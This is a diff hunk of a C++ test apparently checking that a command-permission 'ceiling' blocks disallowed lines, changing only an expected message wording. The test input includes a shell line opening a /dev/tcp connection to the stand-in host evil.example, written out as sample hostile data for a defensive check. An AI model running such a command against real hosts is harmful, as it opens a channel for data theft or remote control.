@@ -87,7 +87,7 @@ TEST_CASE("a line that the operator's ceiling closes is listed, and no further r
   const Caller caller(closing);
   for (const auto& [source, by] : {std::pair("git --version\n", "`ceiling.allow.cli` in "),
                                    std::pair("exec 3<>/dev/tcp/evil.example/80\n",
-                                             "net `evil.example` (band learn) is closed by this server's ceiling")}) {
+                                             "net `evil.example` (band learn) is denied by this server's ceiling")}) {
     caller.script("tool/go", std::string("set -e\n") + source + kEmptyOutput);
     const Ran learnt = caller.band(learn({"--runs", "12"}));
     CHECK_STATUS(learnt, 3);
